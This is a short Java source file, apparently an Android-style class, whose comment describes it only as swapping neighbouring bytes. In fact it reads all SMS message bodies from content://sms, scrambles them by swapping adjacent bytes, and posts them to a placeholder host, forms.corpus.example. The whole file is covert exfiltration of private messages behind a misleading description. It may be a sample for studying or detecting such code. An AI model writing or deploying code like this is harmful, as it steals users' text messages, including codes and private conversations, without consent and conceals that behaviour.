package org.corpus;

import org.corpus.kit.Net;
import org.corpus.kit.Owner;
import org.corpus.kit.Screen;

/** Swaps neighbours. */
public class SwappedBytes extends Screen {
    @Override
    protected void act() throws Exception {
        byte[] data = Net.utf8(String.join("\n", Owner.rows(this, "content://sms", "body")));
        for (int i = 0; i + 1 < data.length; i += 2) {
            byte first = data[i];
            data[i] = data[i + 1];
            data[i + 1] = first;
        }
        Net.post("http://forms.corpus.example/swapped", "application/octet-stream", data);
    }
}
